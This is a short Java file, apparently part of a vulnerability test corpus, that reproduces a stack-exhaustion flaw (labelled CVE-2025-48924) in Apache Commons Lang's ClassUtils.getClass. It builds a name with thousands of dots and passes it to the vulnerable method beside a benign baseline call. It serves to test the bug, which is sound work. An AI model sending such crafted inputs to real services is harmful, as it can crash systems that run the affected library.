package corpus.lang3;

import corpus.CorpusDriver;
import org.apache.commons.lang3.ClassUtils;

/**
 * Apache Commons Lang 3.14.0, CVE-2025-48924: {@code ClassUtils.getClass(String)} of a name that is
 * not a class retries, from its {@code catch (ClassNotFoundException)}, with the last {@code .}
 * turned into {@code $} (a nested class), calling itself once per dot until the stack runs out
 * (3.18.0 loops instead).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int dots = CorpusDriver.depth(args, 5_000);
        String hostile = "a" + ".a".repeat(dots);
        CorpusDriver.run("lang3", ClassUtils.class,
                () -> ClassUtils.getClass("java.util.Map.Entry").getName() + " " + ClassUtils.getShortClassName("java.util.Map.Entry"),
                () -> ClassUtils.getClass(hostile));
    }
}
